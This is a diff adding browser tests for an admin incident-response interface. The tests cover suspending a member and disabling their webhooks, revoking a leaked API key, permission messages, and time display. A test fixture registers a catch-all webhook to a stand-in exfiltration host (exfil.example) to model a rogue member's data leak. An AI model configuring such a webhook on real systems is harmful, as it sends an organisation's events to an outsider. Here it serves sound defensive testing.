@@ -1,0 +1,108 @@
+// What an administrator does on the pages of a member during an incident.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { inWindow, reeve } from '../harness/browser.ts'
+
+const EXFIL = 'https://exfil.example/reeve'
+
+/** A member who created a webhook with the key of a stolen laptop. */
+async function memberWithWebhook() {
+  const acme = await reeve.organization('Acme')
+  const mallory = await acme.person('administrator')
+  const body = { url: EXFIL, event_types: ['*'] }
+  const { id } = (await mallory.call('POST /v1/governance/webhooks', { body })).body
+  const { name } = (await acme.owner.call(`GET /v1/members/${mallory.userId}`)).body
+  const isEnabled = async () => (await acme.owner.call(`GET /v1/governance/webhooks/${id}`)).body.enabled
+  return { acme, mallory, name, isEnabled }
+}
+
+test('a suspension disables the webhooks that the member created, if asked, and the reactivation enables them', async () => {
+  const { acme, mallory, name, isEnabled } = await memberWithWebhook()
+  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+    await open(`/members/${mallory.userId}/suspend`)
+    const choice = page.getByRole('checkbox', { name: 'Disable webhooks created by this member' })
+    assert.equal(await choice.isChecked(), false)
+    const goesOn = page.getByRole('region', { name: 'Keeps running' })
+    await goesOn.getByRole('link', { name: EXFIL }).waitFor()
+    await choice.check()
+    const stops = page.getByRole('region', { name: 'Will stop' })
+    await stops.getByRole('listitem').filter({ hasText: '1 webhook' }).first().getByText(EXFIL).waitFor()
+    await goesOn.waitFor({ state: 'detached' })
+    await page.getByText('Reactivation restores: access, 1 API key, 1 webhook, and sign-in.').waitFor()
+    await page.getByRole('button', { name: `Suspend ${name}` }).click()
+    const stopped = page.getByRole('region', { name: 'Stopped' })
+    await stopped.getByRole('listitem').filter({ hasText: '1 webhook' }).first().getByText(EXFIL).waitFor()
+    await page.getByText('Still running: nothing that Reeve controls').waitFor()
+    assert.equal(await isEnabled(), false)
+
+    await page.getByRole('link', { name: `Reactivate ${name}` }).click()
+    const comes = page.getByRole('region', { name: 'Will be restored' })
+    await comes.getByRole('listitem').filter({ hasText: '1 webhook' }).getByText(new URL(EXFIL).origin).waitFor()
+    await page.getByRole('button', { name: `Reactivate ${name}` }).click()
+    await page.getByRole('region', { name: 'Restored', exact: true }).getByText('1 webhook').waitFor()
+    assert.equal(await isEnabled(), true)
+  })
+})
+
+test('who may not manage webhooks sees why the choice is disabled', async () => {
+  const { acme, mallory } = await memberWithWebhook()
+  const permissions = ['members.read', 'members.suspend', 'members.reactivate']
+  const helper = await acme.person(await acme.profile(permissions))
+  await acme.owner.call(`PATCH /v1/members/${mallory.userId}`, { body: { profile_id: await acme.profile([]) } })
+  await inWindow({ as: helper }, async ({ page, open }) => {
+    await open(`/members/${mallory.userId}/suspend`)
+    const choice = page.getByRole('checkbox', { name: 'Disable webhooks created by this member' })
+    await choice.and(page.locator(':disabled')).waitFor()
+    await page.getByText('governance.manage').first().waitFor()
+  })
+})
+
+test('one API key is revoked on the page of its owner, and the others keep working', async () => {
+  const acme = await reeve.organization()
+  const mallory = await acme.person('administrator')
+  const order = { name: 'leaked', scopes: ['audit:read'] }
+  const leaked = (await mallory.inSession('POST /v1/api-keys', { body: order })).body
+  assert.equal((await reeve.call('GET /v1/audit/entries', { key: leaked.key })).status, 200)
+  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+    await open(`/members/${mallory.userId}`)
+    for (const width of [1280, 375]) {
+      await page.setViewportSize({ width, height: 800 })
+      await page.getByRole('button', { name: 'Revoke the API key leaked' }).waitFor()
+    }
+    await page.getByRole('button', { name: 'Revoke the API key leaked' }).click()
+    await page
+      .getByRole('dialog')
+      .getByRole('button', { name: /^Revoke/ })
+      .click()
+    await page.getByRole('dialog').waitFor({ state: 'detached' })
+    await page.getByRole('row').filter({ hasText: 'leaked' }).getByText('Revoked').waitFor()
+    assert.equal(await page.getByRole('button', { name: 'Revoke the API key leaked' }).count(), 0)
+    assert.equal(new URL(page.url()).pathname, `/members/${mallory.userId}`)
+  })
+  assert.equal((await reeve.call('GET /v1/audit/entries', { key: leaked.key })).status, 401)
+  assert.equal((await mallory.call('GET /v1/caller')).status, 200)
+})
+
+test('a relative time advances by itself, and a focused link shows the exact one', async () => {
+  const acme = await reeve.organization()
+  const mallory = await acme.person('administrator')
+  await acme.owner.call(`PATCH /v1/members/${mallory.userId}/details`, { body: { name: 'Mallory Voss' } })
+  await inWindow({ as: acme.owner, isOwn: true }, async ({ page, open }) => {
+    await page.clock.install()
+    await open(`/members/${mallory.userId}`)
+    const joined = page.getByRole('definition').last().locator('time')
+    assert.match((await joined.textContent()) ?? '', /sec|now/)
+    const entry = page.getByRole('link', { name: /Open entry \d+/ }).first()
+    await entry.waitFor()
+    // Without a response, which would correct the browser's clock by the server's.
+    await page.route(/\/v1\//, () => {})
+    await page.clock.fastForward('03:00')
+    await joined.filter({ hasText: /^3 min\.? ago$/ }).waitFor()
+
+    const exact = await entry.locator('time').getAttribute('title')
+    await page.keyboard.press('Tab')
+    await entry.focus()
+    const shown = await entry.locator('time').evaluate(element => getComputedStyle(element, '::after').content)
+    assert.equal(shown, JSON.stringify(exact))
+  })
+})
